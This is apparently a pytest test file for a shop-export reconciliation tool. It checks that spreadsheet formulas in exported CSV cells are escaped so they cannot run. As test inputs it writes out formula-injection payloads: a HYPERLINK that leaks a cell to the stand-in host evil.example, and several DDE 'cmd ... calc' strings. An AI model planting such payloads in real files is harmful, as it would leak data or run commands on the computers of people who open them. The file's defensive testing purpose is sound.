"""missing.csv never hands a spreadsheet a formula from the shop's export (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest
from reconcile_exports import write_csv

from auditor.reconcile.outputs import spreadsheet_safe

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Pay here")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=1", "'=1"),
        ("-", "'-"),
        ("+34 600 000 000", "'+34 600 000 000"),  # not a number to a spreadsheet: kept as the text it is
        ("-12.50", "-12.50"),
        ("-1.234,56", "-1.234,56"),
        ("+34600000000", "+34600000000"),
        ("-٣", "'-٣"),  # only ASCII digits make a number
        ("Ana =HYPERLINK(1)", "Ana =HYPERLINK(1)"),  # a formula starts at the first character only
        ("12.50", "12.50"),
        ("", ""),
    ],
)
def test_the_rule_cell_by_cell(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def test_missing_csv_from_the_command_neutralises_every_formula(tmp_path: Path) -> None:
    header = ["order_id", "=customer", "phone", "total", "status"]
    orders = [
        ["1001", HYPERLINK, "+34 600 000 000", "-12.50", "completed"],
        ["=2+5", "@SUM(A1:A9)", "+34600000000", "+3.00", "completed"],
        ["1003", "Ana\t", "\t+1", "-1.234,56", "completed"],
        ["1004", "found", "", "10.00", "completed"],
    ]
    write_csv(tmp_path / "orders.csv", header, orders, delimiter=";")
    write_csv(tmp_path / "purchases.csv", ["purchase_id"], [["1004"]])
    out = tmp_path / "out"
    done = subprocess.run(
        [
            *(sys.executable, "-m", "auditor", "reconcile"),
            *("--orders", "orders.csv", "--purchases", "purchases.csv", "--out", str(out)),
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1, done.stderr  # three of four orders lost
    with (out / "missing.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert rows == [
        ["line", "normalised_id", "order_id", "'=customer", "phone", "total", "status"],
        ["2", "1001", "1001", "'" + HYPERLINK, "'+34 600 000 000", "-12.50", "completed"],
        ["3", "'=2+5", "'=2+5", "'@SUM(A1:A9)", "+34600000000", "+3.00", "completed"],
        ["4", "1003", "1003", "Ana\t", "'\t+1", "-1.234,56", "completed"],
    ]
